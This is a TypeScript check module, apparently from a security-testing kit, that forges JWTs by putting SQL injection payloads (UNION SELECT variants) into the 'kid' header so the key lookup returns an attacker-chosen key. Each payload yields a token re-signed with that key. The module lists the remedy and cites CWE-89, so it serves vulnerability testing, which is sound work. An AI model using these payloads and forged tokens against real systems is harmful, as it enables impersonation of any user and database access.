import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

/** The key that the injected query returns, and that the token is signed with. */
const key = 'gatecrash'
const kids = [
  `x' UNION SELECT '${key}`,
  `x' UNION SELECT '${key}'--`,
  `x' UNION SELECT '${key}' -- -`,
  `x" UNION SELECT "${key}`,
  `0 UNION SELECT '${key}'`,
  `x') UNION SELECT '${key}'-- -`,
  `x' UNION SELECT '${key}'/*`,
  `x' UNION ALL SELECT '${key}' FROM (SELECT 1) AS t WHERE '1'='1`,
  `x'/**/UNION/**/SELECT/**/'${key}'--`,
]

export default tokenAttack({
  id: 'token/key-kid-sqli',
  rows: ['token.key-kid.sqli'],
  title: 'A kid that makes the key query answer with a key of the attacker’s choice',
  requirement: 'RFC 8725 section 3.10: kid is validated before it is used; ASVS V1.2.4: parameterised queries',
  impact: 'The attacker chooses the key: anyone becomes any user, and the database is open.',
  remedy: 'Use a parameterised query, and accept only kids of a known shape.',
  severity: 'critical',
  cwe: ['CWE-89'],
  references: ['RFC 8725 section 3.10', 'ASVS V1.2.4'],
  provenBy: 'kid-sql',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    return kids.map((kid) => ({
      name: `kid ${kid}`,
      token: assembleWithHmac({ ...header, alg: 'HS256', kid }, payload, key),
    }))
  },
})
